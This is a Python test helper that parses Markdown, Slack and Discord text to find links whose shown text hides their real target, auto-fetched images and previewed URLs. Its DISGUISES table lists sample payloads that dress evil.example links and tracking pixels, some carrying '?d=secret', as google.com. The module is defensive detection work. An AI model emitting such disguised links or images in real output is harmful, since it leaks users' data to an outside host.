"""What a Markdown renderer would make of nerve's output: links whose text hides their target, images.

A real CommonMark parser (markdown-it, the one rich uses) reads the text the way Slack's markdown
block and Discord do for links, so a test need not guess which of the many link forms (inline,
reference, nested brackets, `<…>` destinations, links after a fence a list closed) got through.
"""

from __future__ import annotations

import re
from urllib.parse import unquote, urlsplit

from markdown_it import MarkdownIt
from markdown_it.token import Token

# Slack escapes `<` and Discord shows no HTML: raw HTML is text for both.
_PARSER = MarkdownIt("commonmark", {"html": False})

EVIL = "evil.example"
# Link text pretending to go somewhere else than it does, in every link form CommonMark knows.
DISGUISES = {
    "inline": "[google.com](https://evil.example/collect?d=secret)",
    "inline, title": "[google.com](https://evil.example 'Google')",
    "nested brackets": "[[google.com]](https://evil.example)",
    "angle destination with a space": "[google.com](<https://evil.example/a b>)",
    "label over two lines": "[google\n.com](https://evil.example)",
    "full reference": "[google.com][g]\n\n[g]: https://evil.example",
    "collapsed reference": "[google.com][]\n\n[google.com]: https://evil.example",
    "shortcut reference": "see [google.com]\n\n[google.com]: https://evil.example",
    "image": "![google.com](https://evil.example/pixel.png?d=secret)",
    "after an inline triple backtick": "run ```[google.com](https://evil.example)",
    "between escaped backticks": "\\`[google.com](https://evil.example)\\`",
    "code span that is not one": "`a\nb` [google.com](https://evil.example) `c`",
    "after a fence a list item closed": "- item\n   ```\n[google.com](https://evil.example)\n```",
    "slack syntax": "<https://evil.example|google.com>",
    "slack syntax, no scheme in text": "<https://evil.example?d=secret|Google>",
}


def _text_of(tokens: list[Token], start: int) -> str:
    words = []
    for token in tokens[start + 1 :]:
        if token.type == "link_close":
            break
        words.append(token.content)
    return "".join(words)


def disguised_links(markdown: str) -> list[str]:
    """Every link whose shown text does not name the host it goes to, and every image (an image is
    fetched without a click, with whatever its address carries)."""
    found = []
    for block in _PARSER.parse(markdown):
        for i, token in enumerate(block.children or []):
            if token.type == "image":
                found.append(f"image {token.attrs.get('src')}")
            elif token.type == "link_open":
                href = str(token.attrs.get("href") or "")
                # An e-mail autolink shows its address; any other link must show its host.
                host = unquote(
                    href.removeprefix("mailto:")
                    if href.startswith("mailto:")
                    else urlsplit(href).hostname or href
                )
                text = _text_of(block.children or [], i)
                if host.lower() not in text.lower():
                    found.append(f"[{text}]({href})")
    return found


_SLACK_LINK = re.compile(r"<(https?://[^|>]+)\|([^>]*)>")


def disguised_slack_links(mrkdwn: str) -> list[str]:
    """Slack's own `<url|text>` links whose text does not name the host they go to."""
    return [
        match.group(0)
        for match in _SLACK_LINK.finditer(mrkdwn)
        if (urlsplit(match.group(1)).hostname or "") not in match.group(2)
    ]


_URL = re.compile(r"<?https?://[^\s<>]+>?", re.IGNORECASE)


def previewed_urls(discord_text: str) -> list[str]:
    """URLs Discord would preview (fetching them, with what their query string carries): every
    http(s) address not written as `<url>`, code included (feed it text without code blocks)."""
    return [url for url in _URL.findall(discord_text) if not (url.startswith("<") and url.endswith(">"))]
